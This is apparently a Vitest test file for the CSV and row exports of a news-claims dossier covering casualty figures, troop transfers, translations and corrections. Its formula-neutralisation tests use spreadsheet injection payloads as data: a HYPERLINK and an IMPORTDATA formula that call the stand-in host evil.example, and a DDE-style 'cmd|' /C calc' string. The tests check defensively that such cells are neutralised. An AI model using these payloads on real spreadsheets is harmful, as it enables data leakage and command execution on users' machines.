import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { entityRows, FIGURE_COLUMNS, eventRows, figureRows, neutraliseFormula, sourceRows, toCsv, transferRows } from './exports';
import { event, figure, source, transfer } from '../../../tests/helpers/builders';
import { buildEntityIndex, selectClaims } from '../compare';

const entries = [source('a-2025-05-x', {
  url: 'https://example.org/a',
  figures: [figure('fig-a', { low: 10000, high: 12000, attribution: { estimatedBy: 'NIS' }, quote: 'entre 10 000 et 12 000, dit-il' }),
    figure('fig-b', { statedAs: 'des milliers', measure: 'wounded', topic: 'casualties' })],
  transfers: [transfer('tr-a')],
  events: [event('ev-a', { key: 'k' })],
}), source('b-2025-06-y')];
const GLOSSARY = [{ id: 'nis', label: 'National Intelligence Service (South Korea)', kind: 'organisation' as const, forms: [{ text: 'NIS' }] }];
const ctx = { site: 'https://dossier.example/', outletName: () => 'CSactu', glossary: GLOSSARY };

describe('figureRows', () => {
  const rows = figureRows(selectClaims(entries, { kind: 'figure' }), ctx);
  it('gives each row its source, links and original', () => {
    expect(rows[0]).toMatchObject({
      source_id: 'a-2025-05-x', claim_id: 'fig-a', low: 10000, high: 12000, estimated_by: 'NIS', outlet: 'CSactu',
      source_url: 'https://dossier.example/sources/a-2025-05-x/',
      claim_url: 'https://dossier.example/sources/a-2025-05-x/#fig-a',
      original_url: 'https://example.org/a',
    });
  });
  it('exports a missing number as null, never as zero', () => {
    expect(rows[1]).toMatchObject({ low: null, high: null, stated_as: 'des milliers' });
  });
  it('gives the as-of period, saying when it is the article’s date, and the normalised estimator', () => {
    expect(rows[0]).toMatchObject({
      as_of_start: '2025-05-01', as_of_end: '2025-05-01', as_of_from_article: true, as_of_approximate: false,
      cumulative: false, estimator_key: 'entity:nis', estimator: 'National Intelligence Service (South Korea)',
      disagreement_count: 0, disagrees_with: [], disagrees_with_complete: true,
    });
  });
  it('carries the ids of the entities a claim names, by role and in its quote', () => {
    expect(rows[0]!.entities).toEqual([{ role: 'estimator', id: 'nis' }]);
    const [named] = figureRows([{ source: entries[0]!, claim: figure('q', { quote: 'le NIS dit', place: 'Kursk' }) }], ctx);
    expect(named!.entities).toEqual([{ role: 'named', id: 'nis' }]);
    expect(toCsv(rows.slice(0, 1), ['entities'])).toBe('\uFEFFentities\r\nestimator:nis\r\n');
  });
  it('names the figures a figure disagrees with, and why', () => {
    const later = [
      source('x-2025-03-01', { published: '2025-03-01', figures: [figure('early', { topic: 'casualties', measure: 'killed', low: 3000, high: 3000 })] }),
      source('y-2025-06-01', { published: '2025-06-01', figures: [figure('late', { topic: 'casualties', measure: 'killed', low: 1000, high: 1000 })] }),
    ];
    const [early, late] = figureRows(selectClaims(later, { kind: 'figure' }), ctx);
    expect(early).toMatchObject({ cumulative: true, disagreement_count: 1, disagrees_with: [{ source_id: 'y-2025-06-01', claim_id: 'late', reason: 'higher-than-later', claim_url: 'https://dossier.example/sources/y-2025-06-01/#late' }] });
    expect(late!.disagrees_with).toEqual([expect.objectContaining({ claim_id: 'early', reason: 'lower-than-earlier' })]);
    expect(toCsv([late!], ['disagrees_with'])).toBe('\uFEFFdisagrees_with\r\nx-2025-03-01#early (lower-than-earlier)\r\n');
  });
});

describe('other rows', () => {
  it('say a missing original URL is null', () => {
    const rows = figureRows([{ source: entries[1]!, claim: figure('f') }], ctx);
    expect(rows[0]!.original_url).toBeNull();
  });
  it('carry transfers and events', () => {
    expect(transferRows(selectClaims(entries, { kind: 'transfer' }), ctx)[0]).toMatchObject({ direction: 'to-russia', category: 'troops', kind: 'transfer' });
    expect(eventRows([{ source: entries[0]!, claim: entries[0]!.data.events[0]! }], ctx)[0]).toMatchObject({ key: 'k', date: '2025-04-28', kind: 'event' });
  });
});

describe('toCsv', () => {
  it('quotes what needs quoting, doubles quotes and writes null as empty', () => {
    expect(toCsv([{ a: 1, b: 'x, "y"', c: null }], ['a', 'b', 'c'])).toBe('\uFEFFa,b,c\r\n1,"x, ""y""",\r\n');
  });
  it('neutralises text a spreadsheet would run as a formula, and leaves numbers numbers (OWASP)', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const rows = payloads.map((p, i) => ({ n: -5 + i, text: p, list: [p], flag: false }));
    const csv = toCsv(rows, ['n', 'text', 'list', 'flag']);
    // Each neutralised cell is quoted and starts with the single quote; a negative number is bare.
    expect(csv.split('\r\n')[1]).toBe('-5,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",false');
    const parsed = parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];
    expect(parsed).toHaveLength(payloads.length);
    for (const [i, p] of payloads.entries()) {
      expect(parsed[i]).toEqual({ n: String(-5 + i), text: `'${p}`, list: `'${p}`, flag: 'false' });
      expect(parsed[i]!.text).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Text that only contains those characters later is written as before.
    expect(toCsv([{ a: 'a-b = c', b: 'x@y' }], ['a', 'b'])).toBe('\uFEFFa,b\r\na-b = c,x@y\r\n');
    expect(neutraliseFormula('North Korea')).toBe('North Korea');
  });
  it('neutralises a figure row whose article text starts like a formula, and parses back with every column', () => {
    const hostile = source('h-2025-05-01', {
      title: '=IMPORTDATA("http://evil.example")', url: 'https://example.org/h',
      figures: [figure('fig-h', { low: 5, high: 5, quote: '@SUM(1+1)*cmd|\' /C calc\'!A0', attribution: { estimatedBy: '-2+3' } })],
    });
    const csv = toCsv(figureRows(selectClaims([hostile], { kind: 'figure' }), ctx), FIGURE_COLUMNS);
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      source_title: '\'=IMPORTDATA("http://evil.example")', quote: '\'@SUM(1+1)*cmd|\' /C calc\'!A0', estimated_by: "'-2+3",
      low: '5', high: '5', source_id: 'h-2025-05-01', original_url: 'https://example.org/h',
    });
    expect(Object.keys(row!)).toEqual([...FIGURE_COLUMNS]);
  });
  it('writes every figure column', () => {
    const csv = toCsv(figureRows(selectClaims(entries, { kind: 'figure' }), ctx), FIGURE_COLUMNS);
    const [header, first] = csv.slice(1).split('\r\n');
    expect(header!.split(',')).toEqual([...FIGURE_COLUMNS]);
    expect(first).toContain('"entre 10 000 et 12 000, dit-il"');
  });
});

describe('quote_translation', () => {
  const french = source('c-2025-06-z', {
    language: 'fr',
    figures: [figure('fig-w', { measure: 'wounded', topic: 'casualties', statedAs: 'des milliers', quote: 'des milliers d’autres blessés', translation: 'thousands of others wounded' }),
      figure('fig-u', { quote: 'environ 5 000 militaires', low: 5000, high: 5000 })],
    events: [event('ev-f', { quote: 'Le 6 novembre 2025', translation: 'On 6 November 2025' })],
  });
  const rows = figureRows(selectClaims([french], { kind: 'figure' }), ctx);
  it('carries the dossier’s translation beside the verbatim quote, null when there is none', () => {
    expect(rows.map((r) => [r.quote, r.quote_translation])).toEqual([
      ['des milliers d’autres blessés', 'thousands of others wounded'],
      ['environ 5 000 militaires', null],
    ]);
    expect(eventRows([{ source: french, claim: french.data.events[0]! }], ctx)[0]).toMatchObject({ quote: 'Le 6 novembre 2025', quote_translation: 'On 6 November 2025' });
    expect(transferRows(selectClaims(entries, { kind: 'transfer' }), ctx)[0]!.quote_translation).toBeNull();
  });
  it('writes it as the CSV’s last column, empty when there is none', () => {
    const parsed = parse(toCsv(rows, FIGURE_COLUMNS), { bom: true, columns: true }) as Record<string, string>[];
    expect(FIGURE_COLUMNS.at(-1)).toBe('quote_translation');
    expect(parsed.map((r) => r['quote_translation'])).toEqual(['thousands of others wounded', '']);
  });
});

describe('entityRows', () => {
  it('gives every entity its forms, page, Wikidata id and counts', () => {
    const entities = [{ id: 'nis', label: 'NIS', kind: 'agency' as const, description: 'd', wikidata: undefined, forms: [{ text: 'NIS' }, { text: 'services de renseignement sud-coréens', lang: 'fr' as const }] }];
    const index = buildEntityIndex(entries, () => '<p>Le NIS estime.</p>', entities, entities);
    expect(entityRows(index, entities, 'https://dossier.example/')).toEqual([{
      id: 'nis', name: 'NIS', kind: 'agency', description: 'd', wikidata: null, url: 'https://dossier.example/entities/nis/',
      forms: [{ text: 'NIS', lang: 'en' }, { text: 'services de renseignement sud-coréens', lang: 'fr' }],
      source_count: 2, claim_counts: { estimator: 1, relayer: 0, actor: 0, party: 0, place: 0 },
    }]);
  });
});

describe('corrections in the exports', () => {
  const corrected = source('c-2025-05-01', {
    updated: '2026-01-07',
    figures: [figure('fig-a', { low: 5, high: 5 })],
    corrections: [
      { date: '2026-01-05', text: 'Value corrected.', reason: 'Misread.', claims: ['fig-a'] },
      { date: '2026-01-05', text: 'A claim removed.', reason: 'Duplicate.', removedClaims: ['fig-old'] },
    ],
  });
  it('give each claim row the links of the corrections that changed it', () => {
    const [row] = figureRows(selectClaims([corrected], { kind: 'figure' }), ctx);
    expect(row!.corrections).toEqual(['https://dossier.example/sources/c-2025-05-01/#correction-2026-01-05']);
    expect(toCsv([row!], ['corrections'])).toBe('\uFEFFcorrections\r\nhttps://dossier.example/sources/c-2025-05-01/#correction-2026-01-05\r\n');
    expect(figureRows(selectClaims(entries, { kind: 'figure' }), ctx)[0]!.corrections).toEqual([]);
  });
  it('list every source with its record, last update and corrections', () => {
    const [row, plain] = sourceRows([corrected, entries[1]!], ctx);
    expect(row).toMatchObject({
      source_id: 'c-2025-05-01', updated: '2026-01-07', source_url: 'https://dossier.example/sources/c-2025-05-01/',
      claim_counts: { figures: 1, transfers: 0, reactions: 0, events: 0 },
    });
    expect(row!.corrections).toEqual([
      { id: 'correction-2026-01-05', url: 'https://dossier.example/sources/c-2025-05-01/#correction-2026-01-05', date: '2026-01-05', text: 'Value corrected.', reason: 'Misread.', claims: ['fig-a'], removed_claims: [] },
      { id: 'correction-2026-01-05-2', url: 'https://dossier.example/sources/c-2025-05-01/#correction-2026-01-05-2', date: '2026-01-05', text: 'A claim removed.', reason: 'Duplicate.', claims: [], removed_claims: ['fig-old'] },
    ]);
    expect(plain).toMatchObject({ updated: null, corrections: [], original_url: null, title_supplied: false });
  });
});
